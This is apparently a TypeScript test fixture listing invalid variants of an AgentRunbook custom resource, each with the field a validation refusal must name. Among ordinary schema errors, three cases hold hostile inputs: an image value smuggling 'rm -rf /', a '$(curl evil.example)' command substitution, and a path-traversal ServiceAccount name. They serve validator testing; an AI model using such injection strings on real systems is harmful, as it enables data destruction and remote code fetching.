/**
 * Invalid variants of examples/pipeline-normalize-research.yaml, each with the field the
 * refusal must name. `serverOnly` marks the rules only the API server checks: CEL rules
 * (x-kubernetes-validations) and the uniqueness of list-map keys.
 */
import { loadExample } from './runbooks.js';

type Json = Record<string, unknown>;

export interface InvalidCase {
  title: string;
  /** Dotted path with list indexes as numbers: spec.agents.pipeline.1.name */
  set?: [path: string, value: unknown][];
  remove?: string[];
  /** The field the refusal must name, as the API server writes it. */
  field: string;
  /** What the refusal must also say. */
  message?: string;
  serverOnly?: 'cel' | 'list-map-key';
  /**
   * Checked by the validating webhook only, as the CRD leaves the field untyped (a value of two
   * shapes, schema-kit's OneShapeOf): by its schema (ajv), or by its semantic checks.
   */
  webhookOnly?: 'schema' | 'semantic';
}

function walk(root: Json, path: string): [Json, string] {
  const parts = path.split('.');
  const last = parts.pop() ?? '';
  let node: Json = root;
  for (const part of parts) {
    const next = node[part];
    if (typeof next !== 'object' || next === null) throw new Error(`no ${part} in ${path}`);
    node = next as Json;
  }
  return [node, last];
}

export function buildInvalid(testCase: InvalidCase): Json {
  const runbook = loadExample('pipeline-normalize-research.yaml');
  runbook.metadata = {
    name: `invalid-${testCase.title
      .toLowerCase()
      .replace(/[^a-z0-9]+/g, '-')
      .replace(/-$/, '')}`,
  };
  for (const [path, value] of testCase.set ?? []) {
    const [parent, key] = walk(runbook, path);
    parent[key] = value;
  }
  for (const path of testCase.remove ?? []) {
    const [parent, key] = walk(runbook, path);
    if (Array.isArray(parent)) parent.splice(Number(key), 1);
    else parent[key] = undefined;
  }
  return JSON.parse(JSON.stringify(runbook)) as Json;
}

export const INVALID_CASES: InvalidCase[] = [
  { title: 'unknown execution mode', set: [['spec.execution.mode', 'serial']], field: 'spec.execution.mode' },
  {
    title: 'negative token budget',
    set: [['spec.budgets', { tokens: { total: -1 } }]],
    field: 'spec.budgets.tokens.total',
  },
  {
    title: 'perAgent above total',
    set: [['spec.budgets', { tokens: { total: 1000, perAgent: 2000 } }]],
    field: 'spec.budgets.tokens.perAgent',
    serverOnly: 'cel',
  },
  {
    title: 'duration in words',
    set: [['spec.execution.timeout', '15 minutes']],
    field: 'spec.execution.timeout',
  },
  {
    title: 'stage timeout without unit',
    set: [['spec.agents.pipeline.0.config.timeout', '30']],
    field: 'spec.agents.pipeline[0].config.timeout',
  },
  { title: 'version not semver', set: [['spec.version', '1.0']], field: 'spec.version' },
  { title: 'version missing', remove: ['spec.version'], field: 'spec.version' },
  {
    title: 'stage without name',
    remove: ['spec.agents.pipeline.1.name'],
    field: 'spec.agents.pipeline[1].name',
  },
  {
    title: 'stage name with spaces',
    set: [['spec.agents.pipeline.0.name', 'Normalize It']],
    field: 'spec.agents.pipeline[0].name',
  },
  {
    title: 'duplicate stage names',
    set: [
      ['spec.agents.pipeline.1.name', 'normalize'],
      ['spec.agents.pipeline.1.dependsOn', []],
    ],
    field: 'spec.agents.pipeline[1]',
    serverOnly: 'list-map-key',
  },
  {
    title: 'image that is a shell command',
    set: [['spec.agents.pipeline.0.image', 'busybox; rm -rf / #']],
    field: 'spec.agents.pipeline[0].image',
  },
  {
    title: 'image that runs a command substitution',
    set: [['spec.agents.pipeline.0.image', '$(curl evil.example)']],
    field: 'spec.agents.pipeline[0].image',
  },
  {
    title: 'ServiceAccount name that is a path',
    set: [['spec.agents.pipeline.0.serviceAccountName', '../../kube-system/default']],
    field: 'spec.agents.pipeline[0].serviceAccountName',
  },
  {
    title: 'stage timeout of 0s',
    set: [['spec.agents.pipeline.0.config.timeout', '0s']],
    field: 'spec.agents.pipeline[0].config.timeout',
    message: 'timeout must be longer than 0s',
    serverOnly: 'cel',
  },
  {
    title: 'run timeout of 0ms',
    set: [['spec.execution.timeout', '0ms']],
    field: 'spec.execution.timeout',
    message: 'timeout must be longer than 0s',
    serverOnly: 'cel',
  },
  {
    title: 'stage depends on itself',
    set: [['spec.agents.pipeline.1.dependsOn', ['research']]],
    field: 'spec.agents.pipeline[1].dependsOn',
    serverOnly: 'cel',
  },
  { title: 'unknown field', set: [['spec.priority', 'high']], field: 'spec.priority' },
  { title: 'retries as a word', set: [['spec.execution.retries', 'three']], field: 'spec.execution.retries' },
  { title: 'riskLevel 11', set: [['spec.context.riskLevel', 11]], field: 'spec.context.riskLevel' },
  {
    title: 'unknown complexity',
    set: [['spec.context.complexity', 'extreme']],
    field: 'spec.context.complexity',
  },
  {
    title: 'parallelism zero',
    set: [['spec.execution.parallelism', 0]],
    field: 'spec.execution.parallelism',
  },
  {
    title: 'money as a negative number',
    set: [['spec.budgets', { cost: { maxUSD: -10 } }]],
    field: 'spec.budgets.cost.maxUSD',
    webhookOnly: 'schema',
  },
  {
    title: 'money in words',
    set: [['spec.budgets', { cost: { maxUSD: 'ten dollars' } }]],
    field: 'spec.budgets.cost.maxUSD',
    webhookOnly: 'schema',
  },
  {
    title: 'alertThreshold above maxUSD',
    set: [['spec.budgets', { cost: { maxUSD: '5.00', alertThreshold: '8.00' } }]],
    field: 'spec.budgets.cost.alertThreshold',
    message: 'alertThreshold must not exceed maxUSD',
    webhookOnly: 'semantic',
  },
  {
    title: 'perStage longer than total time',
    set: [['spec.budgets', { time: { total: '5m', perStage: '1h' } }]],
    field: 'spec.budgets.time.perStage',
    serverOnly: 'cel',
  },
  {
    title: 'unknown environment',
    set: [['spec.environment', 'staging']],
    field: 'spec.environment',
    serverOnly: 'cel',
  },
  {
    title: 'unknown retry strategy',
    set: [['spec.execution.retryStrategy', 'fibonacci']],
    field: 'spec.execution.retryStrategy',
    serverOnly: 'cel',
  },
  {
    title: 'unknown output type',
    set: [['spec.agents.pipeline.0.config.outputs.normalized_idea', 'map']],
    field: 'spec.agents.pipeline[0].config.outputs.normalized_idea',
  },
  {
    title: 'unknown error class in fallback trigger',
    set: [
      [
        'spec.workflows',
        { fallback: { trigger: { conditions: ['OOPS'] }, steps: [{ name: 'cached', agent: 'librarian' }] } },
      ],
    ],
    field: 'spec.workflows.fallback.trigger.conditions[0]',
  },
  {
    title: 'exponential strategy without baseDelay',
    set: [['spec.retryStrategies.exponential_backoff', { type: 'exponential', maxDelay: '30s' }]],
    field: 'spec.retryStrategies[exponential_backoff].baseDelay',
    serverOnly: 'cel',
  },
  {
    title: 'gate before an unknown stage',
    set: [['spec.quality', { gates: [{ name: 'review', required: true, before: 'publish' }] }]],
    field: 'spec.quality.gates',
    serverOnly: 'cel',
  },
  {
    title: 'cache maxAge over the longest duration',
    set: [['spec.agents.pipeline.0.cache', { maxAge: '200h' }]],
    field: 'spec.agents.pipeline[0].cache.maxAge',
  },
  {
    title: 'cache maxAge of zero',
    set: [['spec.agents.pipeline.0.cache', { maxAge: '0s' }]],
    field: 'spec.agents.pipeline[0].cache.maxAge',
    message: 'maxAge must be longer than 0s and at most 168h',
    serverOnly: 'cel',
  },
  {
    title: 'cache key that is not a string',
    set: [['spec.agents.pipeline.0.cache', { key: 7 }]],
    field: 'spec.agents.pipeline[0].cache.key',
  },
  {
    title: 'useCache with a maxAge that is not a duration',
    set: [['spec.agents.pipeline.1.config.parameters', { useCache: true, maxAge: 'a day' }]],
    field: 'spec.agents.pipeline[1].config.parameters.maxAge',
    message:
      'is read as how old a reused result may be: it must be a duration longer than 0s and at most 168h, such as 1h or 24h (got "a day")',
    webhookOnly: 'semantic',
  },
];

/** A runbook the schema takes but that breaks each of seven of the CRD's CEL rules once. */
export const BROKEN_CEL_RULES = {
  apiVersion: 'i2s.studio/v2',
  kind: 'AgentRunbook',
  metadata: { name: 'broken-rules' },
  spec: {
    version: '1.0.0',
    environment: 'nope',
    execution: { mode: 'hybrid', retryStrategy: 'ghost' },
    budgets: { tokens: { total: 10, perAgent: 20 }, cost: { maxUSD: '1.00', alertThreshold: '2.00' } },
    quality: { gates: [{ name: 'g', before: 'nostage' }] },
    agents: { pipeline: [{ name: 'a', config: { validation: { minLength: 5, maxLength: 2 } } }] },
    workflows: { fallback: { trigger: { conditions: ['TIMEOUT'] }, steps: [{ name: 's' }] } },
  },
};
